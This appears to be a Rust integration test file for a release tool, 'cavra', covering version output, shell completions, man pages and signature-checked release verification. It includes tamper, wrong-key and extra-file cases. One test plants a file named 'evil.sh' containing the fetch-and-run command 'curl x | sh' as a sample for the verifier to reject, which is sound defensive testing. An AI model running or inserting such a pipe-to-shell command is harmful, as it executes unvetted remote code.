//! CAVRA's own release, through the real `cavra` binary: `version --json`, completions, man
//! pages, and `verify-release` over a release directory assembled from this (debug) binary
//! with `cavra_release::assemble` — what `release/build.sh` does with a release build.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn cavra(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_cavra"))
        .args(args)
        .output()
        .unwrap()
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// A key pair from `cavra policy keygen`.
fn keygen(dir: &Path, name: &str) -> (PathBuf, PathBuf) {
    let k = dir.join(name);
    let o = cavra(&["policy", "keygen", k.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    (k.clone(), PathBuf::from(format!("{}.pub", k.display())))
}

/// A release directory of this binary (with its completions and man pages), signed by `key`.
fn release(dir: &Path, key: &Path) -> PathBuf {
    let out = dir.join("release");
    std::fs::create_dir_all(out.join("completions")).unwrap();
    let o = cavra(&["completions", "bash"]);
    std::fs::write(out.join("completions/cavra.bash"), &o.stdout).unwrap();
    let o = cavra(&["man", "--output", out.join("man").to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let info: cavra_release::BuildInfo =
        serde_json::from_slice(&cavra(&["version", "--json"]).stdout).unwrap();
    let meta = Command::new(env!("CARGO"))
        .args(["metadata", "--format-version", "1", "--offline", "--locked"])
        .args(["--filter-platform", &info.target])
        .current_dir(root())
        .output()
        .unwrap();
    assert!(meta.status.success(), "{}", stderr(&meta));
    let metadata: Value = serde_json::from_slice(&meta.stdout).unwrap();
    let lock = std::fs::read_to_string(root().join("Cargo.lock")).unwrap();
    let rustc_vv = Command::new("rustc").arg("-vV").output().unwrap();
    let mut inputs: String = String::from_utf8(rustc_vv.stdout)
        .unwrap()
        .lines()
        .map(|l| format!("rustc_vv={l}\n"))
        .collect();
    inputs += &format!(
        "git_dirty=false\ntree_sha256={}\ncargo=cargo\ncargo_profile=dev\ncargo_arg=build\n",
        "0".repeat(64)
    );
    let inputs = cavra_release::manifest::BuildInputs::parse(&inputs).unwrap();
    cavra_release::assemble(&cavra_release::Assembly {
        out: &out,
        binary: Path::new(env!("CARGO_BIN_EXE_cavra")),
        binary_name: "cavra",
        info: &info,
        metadata: &metadata,
        lock: &lock,
        key,
        builder: "tests/release_cli.rs",
        timestamp: Some("2026-12-01T00:00:00Z"),
        inputs: &inputs,
    })
    .unwrap();
    out
}

fn verify(dir: &Path, key: &Path) -> Output {
    cavra(&[
        "verify-release",
        dir.to_str().unwrap(),
        "--trusted-key",
        key.to_str().unwrap(),
    ])
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        if e.file_type().unwrap().is_dir() {
            copy_dir(&e.path(), &to.join(e.file_name()));
        } else {
            std::fs::copy(e.path(), to.join(e.file_name())).unwrap();
        }
    }
}

fn flip_byte(path: &Path) {
    let mut b = std::fs::read(path).unwrap();
    let i = b.len() / 2;
    b[i] ^= 0x01;
    std::fs::write(path, b).unwrap();
}

#[test]
fn version_json_describes_the_build_and_dash_dash_version_still_works() {
    let o = cavra(&["version", "--json"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["name"], "cavra");
    assert_eq!(v["version"], env!("CARGO_PKG_VERSION"));
    assert_eq!(v["profile"], "debug");
    let commit = v["git_commit"].as_str().unwrap();
    // built from a git checkout: the commit of its HEAD (a tarball build says `unknown`)
    let head = Command::new("git")
        .args(["rev-parse", "HEAD"])
        .current_dir(root())
        .output();
    if let Some(h) = head.ok().filter(|h| h.status.success()) {
        assert_eq!(commit, stdout(&h).trim());
    }
    assert!(v["target"].as_str().unwrap().contains("-linux-") || cfg!(not(target_os = "linux")));
    assert_eq!(v["features"], serde_json::json!(["postgres"]));
    let text = stdout(&cavra(&["version"]));
    assert!(
        text.starts_with(&format!(
            "cavra {}\ncommit   {commit}\n",
            env!("CARGO_PKG_VERSION")
        )),
        "{text}"
    );
    let o = cavra(&["--version"]);
    assert_eq!(stdout(&o), format!("cavra {}\n", env!("CARGO_PKG_VERSION")));
}

#[test]
fn completions_and_man_pages_come_from_the_command_line_definition() {
    for (shell, marker) in [
        ("bash", "complete -F"),
        ("zsh", "#compdef cavra"),
        ("fish", "complete -c cavra"),
    ] {
        let o = cavra(&["completions", shell]);
        assert!(o.status.success(), "{shell}: {}", stderr(&o));
        let s = stdout(&o);
        assert!(
            s.contains(marker) && s.contains("verify-release"),
            "{shell}: {s}"
        );
    }
    let o = cavra(&["completions", "powershell-9"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("invalid value 'powershell-9'"),
        "{}",
        stderr(&o)
    );
    let d = tempfile::tempdir().unwrap();
    let o = cavra(&["man", "--output", d.path().to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let page = std::fs::read_to_string(d.path().join("cavra.1")).unwrap();
    assert!(
        page.starts_with(".ie") || page.contains(".TH cavra 1"),
        "{page}"
    );
    let o = cavra(&["man", "--output", "/dev/null/man"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("cannot write man pages to `/dev/null/man`"),
        "{}",
        stderr(&o)
    );
    let sub = std::fs::read_to_string(d.path().join("cavra-verify-release.1")).unwrap();
    assert!(sub.contains("trusted\\-key"), "{sub}");
}

#[test]
fn a_release_directory_verifies_and_a_flipped_byte_names_its_file() {
    let d = tempfile::tempdir().unwrap();
    let (key, public) = keygen(d.path(), "release.key");
    let rel = release(d.path(), &key);
    let o = cavra(&[
        "--json",
        "verify-release",
        rel.to_str().unwrap(),
        "--trusted-key",
        public.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(r["verified"], true);
    let names: Vec<&str> = r["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["name"].as_str().unwrap())
        .collect();
    for n in [
        "cavra",
        "cavra.cdx.json",
        "cavra.intoto.jsonl",
        "cavra.build.json",
        "completions/cavra.bash",
        "man/cavra.1",
    ] {
        assert!(names.contains(&n), "{n} not in {names:?}");
    }
    // the reproducibility manifest holds what the binary says of itself
    let manifest: Value =
        serde_json::from_slice(&std::fs::read(rel.join("cavra.build.json")).unwrap()).unwrap();
    let info: Value = serde_json::from_slice(&cavra(&["version", "--json"]).stdout).unwrap();
    assert_eq!(manifest["info"], info);
    assert_eq!(manifest["source"]["git_commit"], info["git_commit"]);
    assert_eq!(r["source_dirty"], false);
    assert_eq!(r["subjects"], serde_json::json!(["cavra"]));
    assert_eq!(r["builder"], "tests/release_cli.rs");
    // the SBOM lists what the binary links (a few hundred crates) and not what it does not
    let bom: Value =
        serde_json::from_slice(&std::fs::read(rel.join("cavra.cdx.json")).unwrap()).unwrap();
    let comps: Vec<&str> = bom["components"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["name"].as_str().unwrap())
        .collect();
    assert!(
        comps.contains(&"cavra-runtime")
            && comps.contains(&"axum")
            && comps.contains(&"ed25519-dalek")
    );
    assert!(
        !comps.contains(&"tempfile") && !comps.contains(&"cavra-bench"),
        "dev-only crates listed"
    );
    assert!(
        bom.to_string()
            .find(&root().display().to_string())
            .is_none(),
        "a local path in the SBOM"
    );
    let text = stdout(&verify(&rel, &public));
    assert!(
        text.starts_with(&format!("release {} verified: ", rel.display())),
        "{text}"
    );

    for (i, file) in [
        "cavra",
        "cavra.cdx.json",
        "cavra.build.json",
        "SHA256SUMS",
        "man/cavra.1",
    ]
    .into_iter()
    .enumerate()
    {
        let bad = d.path().join(format!("bad{i}"));
        copy_dir(&rel, &bad);
        flip_byte(&bad.join(file));
        let o = verify(&bad, &public);
        assert_eq!(o.status.code(), Some(1), "{file}: {}", stdout(&o));
        let e = stderr(&o);
        assert!(
            e.starts_with(&format!("cavra: error: release refused: `{file}`: ")),
            "{file}: {e}"
        );
    }
    // a file beside the release that SHA256SUMS does not list, and one it lists gone
    let extra = d.path().join("extra");
    copy_dir(&rel, &extra);
    std::fs::write(extra.join("completions/evil.sh"), "curl x | sh").unwrap();
    let e = stderr(&verify(&extra, &public));
    assert!(
        e.contains("`completions/evil.sh`: is not listed in SHA256SUMS"),
        "{e}"
    );
    let gone = d.path().join("gone");
    copy_dir(&rel, &gone);
    std::fs::remove_file(gone.join("cavra.intoto.jsonl")).unwrap();
    let e = stderr(&verify(&gone, &public));
    assert!(
        e.contains("`cavra.intoto.jsonl`: is listed in SHA256SUMS but cannot be read"),
        "{e}"
    );
}

#[test]
fn a_wrong_key_fails_and_so_does_a_release_signed_by_another_key() {
    let d = tempfile::tempdir().unwrap();
    let (key, public) = keygen(d.path(), "release.key");
    let (other_key, other) = keygen(d.path(), "other.key");
    let rel = release(d.path(), &key);
    let o = verify(&rel, &other);
    assert_eq!(o.status.code(), Some(1));
    let e = stderr(&o);
    assert!(
        e.starts_with("cavra: error: release refused: `SHA256SUMS.sig`: signed by key"),
        "{e}"
    );
    assert!(e.contains("which is not a trusted key"), "{e}");
    // the same binary released under another key does not pass for the trusted one
    let forged = release(&d.path().join("forged"), &other_key);
    let e = stderr(&verify(&forged, &public));
    assert!(e.contains("`SHA256SUMS.sig`: signed by key"), "{e}");
    assert!(verify(&forged, &other).status.success());
    let o = verify(&rel, &d.path().join("missing.pub"));
    assert!(stderr(&o).contains("cannot read key"), "{}", stderr(&o));
    let o = cavra(&["verify-release", rel.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("--trusted-key"), "{}", stderr(&o));
}
